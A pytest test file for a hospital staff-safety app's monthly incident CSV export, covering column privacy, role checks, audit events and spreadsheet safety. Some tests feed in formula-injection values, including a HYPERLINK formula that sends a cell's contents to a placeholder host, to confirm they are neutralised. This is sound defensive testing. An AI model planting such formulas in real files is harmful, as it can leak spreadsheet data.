"""The month's incidents as CSV: what it holds by default, what a supervisor may add for
their own units, and spreadsheet safety (UTF-8 with a byte-order mark, no formulas)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from boundaries.models import AuditEvent
from incidents.exports import BOM, COLUMNS, DETAIL_COLUMNS, neutralise
from incidents.models import Severity, Status
from tests.factories import IncidentFactory, PatientFactory, ScriptFactory, WitnessFactory

CSV_URL = "/reports/incidents.csv"


def utc(*args) -> datetime:
    return datetime(*args, tzinfo=UTC)


def filed(**fields):
    occurred_at = fields.pop("occurred_at", utc(2026, 10, 14, 9, 15))
    return IncidentFactory(
        occurred_at=occurred_at,
        submitted_at=occurred_at + timedelta(minutes=20),
        review_due_at=occurred_at + timedelta(days=3),
        **fields,
    )


def download(client, query: str) -> tuple[StreamingHttpResponse, list[dict]]:
    response = client.get(f"{CSV_URL}?{query}")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith(BOM)
    rows = list(csv.DictReader(io.StringIO(body.removeprefix(BOM))))
    return response, rows


def test_a_manager_downloads_the_months_incidents_without_free_text_or_patients(
    manager_client, manager, nurse, other_unit_nurse
):
    script = ScriptFactory(version__title="Our policy on personal numbers")
    patient = PatientFactory(reference="9990000042")
    first = filed(
        reporter=nurse,
        occurred_at=utc(2026, 9, 30, 23, 30),  # 00:30 BST on 1 October
        patient=patient,
        description="He asked for my address twice.",
        words_used="I can't share that, but the ward is always here.",
        location="Bay 4, by the window",
        script_version=script.current_version,
        called_security=True,
        ended_interaction=True,
        status=Status.UNDER_REVIEW,
        reviewed_at=utc(2026, 10, 1, 9, 0),
        debrief_offered=True,
    )
    second = filed(
        reporter=other_unit_nurse,
        occurred_at=utc(2026, 10, 31, 23, 30),
        severity=Severity.HIGH,
        script_version=None,
    )
    filed(reporter=nurse, occurred_at=utc(2026, 11, 1, 0, 30))  # November's

    response, rows = download(manager_client, "month=2026-10")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="boundaries-incidents-2026-10-organisation.csv"'
    )
    assert "no-store" in response["Cache-Control"]
    assert list(rows[0]) == COLUMNS
    assert [row["Reference"] for row in rows] == [first.reference, second.reference]
    row = rows[0]
    assert row["Occurred at"] == "2026-10-01T00:30:00+01:00"
    assert row["Filed at"] == "2026-10-01T00:50:00+01:00"
    assert rows[1]["Occurred at"] == "2026-10-31T23:30:00+00:00"
    assert (row["Unit"], row["Severity"], row["Status"]) == ("WARD-A", "Low", "Under review")
    assert (row["Script"], row["Script version"]) == ("Our policy on personal numbers", "1")
    assert (rows[1]["Script"], rows[1]["Script version"]) == ("Own words", "")
    assert row["Actions by the reporter"] == "Ended the interaction; Called security"
    assert row["First reviewed"] == "2026-10-01T10:00:00+01:00"
    assert row["Actions by supervisors"] == "Debrief offered"
    body = "".join(",".join(r.values()) for r in rows)
    for private in ("address twice", "the ward is always here", "Bay 4", patient.reference):
        assert private not in body
    event = AuditEvent.objects.get(action="csv.exported")
    assert (event.actor, event.unit) == (manager, None)
    assert (event.object_type, event.object_id) == ("month", "2026-10")


def test_a_supervisor_may_add_descriptions_and_patient_references_for_their_unit(
    supervisor_client, supervisor, nurse, unit
):
    filed(
        reporter=nurse,
        patient=PatientFactory(reference="9990000042"),
        description="Waited by my car after the late shift.",
        words_used="Please stop. I'm going back inside now.",
        location="Staff car park",
    )

    _, plain = download(supervisor_client, "month=2026-10&unit=WARD-A")
    response, detailed = download(supervisor_client, "month=2026-10&unit=WARD-A&details=1")

    assert list(plain[0]) == COLUMNS
    assert list(detailed[0]) == COLUMNS + DETAIL_COLUMNS
    row = detailed[0]
    assert row["Description"] == "Waited by my car after the late shift."
    assert row["Words used"] == "Please stop. I'm going back inside now."
    assert (row["Location"], row["Patient reference"]) == ("Staff car park", "9990000042")
    assert response["Content-Disposition"] == (
        'attachment; filename="boundaries-incidents-2026-10-WARD-A.csv"'
    )
    # The file with patient references is told apart in the audit trail, with its month
    # (found by review: both were once the same "csv.exported" with the unit alone).
    events = AuditEvent.objects.filter(action__startswith="csv.").order_by("pk")
    assert [(e.action, e.actor, e.unit, e.object_type, e.object_id) for e in events] == [
        ("csv.exported", supervisor, unit, "month", "2026-10"),
        ("csv.details_exported", supervisor, unit, "month", "2026-10"),
    ]


def test_what_supervisors_did_is_left_out_of_the_exporters_own_reports(
    supervisor_client, supervisor, nurse
):
    """A supervisor's own report, in their unit's file, does not show how colleagues
    reviewed it: the app does not show its reporter that either."""
    own = filed(reporter=supervisor, spoke_with_patient=True, status=Status.UNDER_REVIEW)
    other = filed(reporter=nurse, spoke_with_patient=True, status=Status.UNDER_REVIEW)
    for query in ("month=2026-10&unit=WARD-A", "month=2026-10&unit=WARD-A&details=1"):
        _, rows = download(supervisor_client, query)
        actions = {row["Reference"]: row["Actions by supervisors"] for row in rows}
        assert actions == {own.reference: "", other.reference: "Spoke with the patient"}


def test_managers_never_get_descriptions_or_patient_references(manager_client, db):
    for query in ("month=2026-10&details=1", "month=2026-10&unit=WARD-A&details=1"):
        assert manager_client.get(f"{CSV_URL}?{query}").status_code == 403
    assert not AuditEvent.objects.filter(action="csv.exported").exists()


def test_a_supervisor_cannot_add_details_for_another_unit(other_unit_supervisor_client, unit):
    response = other_unit_supervisor_client.get(f"{CSV_URL}?month=2026-10&unit=WARD-A&details=1")
    assert response.status_code == 404


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("x","click")', '\'=HYPERLINK("x","click")'),
        ("+44 7700 900000", "'+44 7700 900000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Bay 3 = side room", "Bay 3 = side room"),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(value, expected):
    assert neutralise(value) == expected


def test_formulas_typed_into_an_incident_reach_the_file_as_text(supervisor_client, nurse):
    filed(
        reporter=nurse,
        description='=HYPERLINK("http://example.invalid/?x="&A1,"Open")',
        words_used="@SUM(1+1)",
        location="-1+1",
    )
    _, rows = download(supervisor_client, "month=2026-10&unit=WARD-A&details=1")
    row = rows[0]
    assert row["Description"] == '\'=HYPERLINK("http://example.invalid/?x="&A1,"Open")'
    assert row["Words used"] == "'@SUM(1+1)"
    assert row["Location"] == "'-1+1"


def test_the_file_is_utf8_that_keeps_names_and_new_lines(supervisor_client, nurse):
    filed(reporter=nurse, description="Zoë said: «call me»\nthen left a note.")
    _, rows = download(supervisor_client, "month=2026-10&unit=WARD-A&details=1")
    assert rows[0]["Description"] == "Zoë said: «call me»\nthen left a note."


def test_the_export_streams_with_the_same_queries_for_1_or_50_incidents(manager_client, nurse):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            response = manager_client.get(f"{CSV_URL}?month=2026-10")
            assert isinstance(response, StreamingHttpResponse)
            b"".join(response.streaming_content)
        return len(captured)

    incident = filed(reporter=nurse)
    WitnessFactory(incident=incident)
    manager_client.get("/reports/")  # the session's first request records its start
    one = queries()
    for day in range(49):
        filed(reporter=nurse, occurred_at=utc(2026, 10, 1 + day % 28, 9, day))
    assert queries() == one
